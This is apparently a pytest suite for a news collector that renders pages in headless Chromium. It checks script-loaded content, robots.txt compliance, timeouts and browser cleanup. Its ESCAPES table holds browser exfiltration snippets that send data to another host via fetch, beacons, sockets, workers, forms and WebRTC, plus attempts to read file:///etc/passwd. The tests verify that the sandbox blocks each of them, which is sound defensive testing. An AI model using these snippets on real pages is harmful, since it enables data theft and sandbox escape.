"""Pages that only a browser can show, among them such as try to get out."""

from __future__ import annotations

import os
import shutil
import signal
import time
from pathlib import Path

import pytest

from pipeline.model import RawKind, SourceKind
from tests.browser import EXECUTABLE, INSTALL
from tests.faulty_host import Host, Outcome, collect, finish, plan, say, serving, source, start

pytestmark = pytest.mark.browser

SCRIPT = """
fetch('/data.json').then(answer => answer.json()).then(data => {
  for (const [tag, text] of Object.entries(data)) {
    const node = document.createElement(tag);
    node.textContent = text;
    document.body.append(node);
  }
});
"""
SHELL = "<!DOCTYPE html><html><head><meta charset='utf-8'>{}</head><body><div id='app'></div></body></html>"


@pytest.fixture(autouse=True)
def _chromium() -> None:
    if not EXECUTABLE.exists():
        sentence = f"{EXECUTABLE} is missing; {INSTALL}"
        if os.environ.get("CHENGQING_REQUIRE_ALL") == "1":
            pytest.fail(sentence)
        pytest.skip(sentence)


def of_scripts(host: Host, *paths: str, more: str = "") -> None:
    """Pages whose text a script brings."""
    page = SHELL.format(
        f"<link rel=stylesheet href='/style.css'><script src='/app.js'></script>{more}"
    )
    host.answers.update(dict.fromkeys(paths, say(page)))
    host.answers["/app.js"] = say(
        f"addEventListener('DOMContentLoaded', () => {{ {SCRIPT} }});", kind="text/javascript"
    )
    host.answers["/data.json"] = say(
        '{"h1": "夜市恢复营业", "p": "管理方提醒游客留意路面湿滑。"}', kind="application/json"
    )


def shown(outcome: Outcome) -> list[str]:
    return [item.body.decode() for item in outcome.items if item.kind is RawKind.ARTICLE]


def test_what_a_script_brings_is_kept(tmp_path: Path) -> None:
    with serving("127.0.0.1") as host:
        host.feed("/1", "/2")
        of_scripts(host, "/1", "/2")
        outcome = collect(tmp_path, [source("a", f"{host.url}/feed.xml", browser=True)])
        assert all(h["User-Agent"] == "Chengqing-test/1.0" for h in host.headers)
        asked = sorted(host.asked)
    assert outcome.reasons("a") == []
    assert outcome.kinds("a") == ["article", "article", "listing"]
    assert all("<p>管理方提醒游客留意路面湿滑。</p>" in page for page in shown(outcome))
    (article, _) = [item for item in outcome.items if item.kind is RawKind.ARTICLE]
    assert article.headers["x-rendered"] == "chromium"
    assert article.headers["content-type"] == "text/html; charset=utf-8"
    assert asked == sorted(
        ["/robots.txt", "/feed.xml", "/1", "/2", "/app.js", "/data.json", "/data.json"]
    ), "a script is asked for once, style never, each page once"


def test_a_list_that_a_script_makes_is_read(tmp_path: Path) -> None:
    with serving("127.0.0.1") as host:
        links = "".join(
            f"<li><a href=\\'/{n}\\'>临江夜市恢复营业第{n}号通告</a></li>" for n in range(4)
        )
        script = (
            f"<script>onload = () => {{ document.body.innerHTML = '<ul>{links}</ul>' }}</script>"
        )
        host.answers["/list"] = say(SHELL.format(script))
        host.articles(*(f"/{n}" for n in range(4)))
        page = source("a", f"{host.url}/list", kind=SourceKind.PAGE, links="ul a", browser=True)
        outcome = collect(tmp_path, [page])
    assert outcome.reasons("a") == []
    assert outcome.kinds("a") == ["article"] * 4 + ["listing"]


ESCAPES = {
    "another address": "fetch('{other}/stolen')",
    "a picture": "new Image().src = '{other}/stolen'",
    "a beacon": "navigator.sendBeacon('{other}/stolen', 'x')",
    "a socket": "new WebSocket('{other}/stolen'.replace('http', 'ws'))",
    "events": "new EventSource('{other}/stolen')",
    "a worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('{other}/stolen')\"])))",
    "a service worker": "navigator.serviceWorker.register('/app.js')",
    "a window": "open('{other}/stolen'); open(URL.createObjectURL(new Blob(['<script>fetch(\"{other}/stolen\")</script>'], {{type: 'text/html'}})))",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {{src: '{other}/stolen'}}))",
    "a download": "Object.assign(document.createElement('a'), {{href: '{other}/stolen', download: 'x'}}).click()",
    "a form": "Object.assign(document.body.appendChild(document.createElement('form')), {{action: '{other}/stolen', method: 'post'}}).submit()",
    "away": "location = '{other}/stolen'",
    "a file": "location = 'file:///etc/passwd'",
    "a file fetched": "fetch('file:///etc/passwd')",
    "hints": "document.head.append(Object.assign(document.createElement('link'), {{rel: 'preconnect', href: '{other}'}}), Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{other}/stolen'}}))",
    "peers": "new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.2:3478'}}]}}).createDataChannel('x')",
}


def test_a_page_cannot_get_out(tmp_path: Path) -> None:
    with serving("127.0.0.1") as host, serving("127.0.0.2") as other:
        host.feed(*(f"/{number}" for number in range(len(ESCAPES))))
        of_scripts(host)
        for number, attempt in enumerate(ESCAPES.values()):
            tried = attempt.format(other=other.url)
            more = f"<script>addEventListener('load', () => {{ {tried} }})</script>"
            of_scripts(host, f"/{number}", more=more)
        outcome = collect(
            tmp_path,
            [source("a", f"{host.url}/feed.xml", browser=True)],
            allow_networks=("127.0.0.1/32",),
            round_seconds=150,
        )
        assert other.asked == []
        assert set(host.asked) <= {
            "/robots.txt", "/feed.xml", "/app.js", "/data.json", *(f"/{n}" for n in range(99))
        }  # fmt: skip
    assert outcome.reasons("a") == []
    pages = shown(outcome)
    assert len(pages) == len(ESCAPES)
    lost = [page for page in pages if "<p>管理方提醒游客留意路面湿滑。</p>" not in page]
    assert lost == []
    assert not any("root:" in page for page in pages)


def test_what_robots_txt_forbids_is_not_asked_for_by_a_page_either(tmp_path: Path) -> None:
    with serving("127.0.0.1") as host:
        host.feed("/1")
        of_scripts(host, "/1")
        rules = "User-agent: *\nDisallow: /data.json"
        host.answers["/robots.txt"] = say(rules, kind="text/plain")
        outcome = collect(tmp_path, [source("a", f"{host.url}/feed.xml", browser=True)])
        assert "/data.json" not in host.asked
    assert outcome.kinds("a") == ["article", "listing"]


def test_a_page_that_never_rests_and_one_that_asks_for_ever(tmp_path: Path) -> None:
    with serving("127.0.0.1") as host:
        host.feed("/busy", "/many", "/good")
        of_scripts(host, "/good")
        host.answers["/busy"] = say(SHELL.format("<script>for (;;) {}</script>"))
        many = "<script>for (let n = 0; n < 500; n++) fetch('/x' + n)</script>"
        host.answers["/many"] = say(SHELL.format(many))
        outcome = collect(
            tmp_path,
            [source("a", f"{host.url}/feed.xml", browser=True)],
            round_seconds=150,
            page_seconds=20,
        )
        assert sum(path.startswith("/x") for path in host.asked) == 30
    assert outcome.reasons("a") == [f"{host.url}/busy：浏览器没有按时显示页面"]
    assert outcome.pending("a") == 1
    assert len(shown(outcome)) == 2


def _browsers() -> set[int]:
    found = set()
    for each in Path("/proc").glob("[0-9]*"):
        try:
            if b"--host-resolver-rules=MAP * ~NOTFOUND" in (each / "cmdline").read_bytes():
                found.add(int(each.name))
        except OSError:
            continue
    return found


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
def test_no_browser_outlives_the_collector(tmp_path: Path, number: int) -> None:
    before, folder = _browsers(), tmp_path / "spool"
    with serving("127.0.0.1") as host:
        host.feed("/1")
        host.answers["/1"] = say(SHELL.format("<script>fetch('/wait')</script>"))
        host.answers["/wait"] = lambda handler: host.ended.wait() and None
        made = plan(folder, [source("a", f"{host.url}/feed.xml", browser=True)], timeout=60)
        child = start(made, tmp_path / "log")
        deadline = time.monotonic() + 60
        while "/wait" not in host.asked and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _browsers() - before, "the browser runs"
        child.send_signal(number)
        finish(child, folder)
        while _browsers() - before and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _browsers() - before == set()


def test_without_a_browser_there_is_one_sentence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    assert shutil.which("chromium") is None
    with serving("127.0.0.1") as host:
        host.feed("/1", "/2")
        outcome = collect(tmp_path, [source("a", f"{host.url}/feed.xml", browser=True)])
        assert host.asked == []
    assert outcome.reasons("a") == ["此来源需要浏览器，请安装 Chromium：apt-get install chromium"]
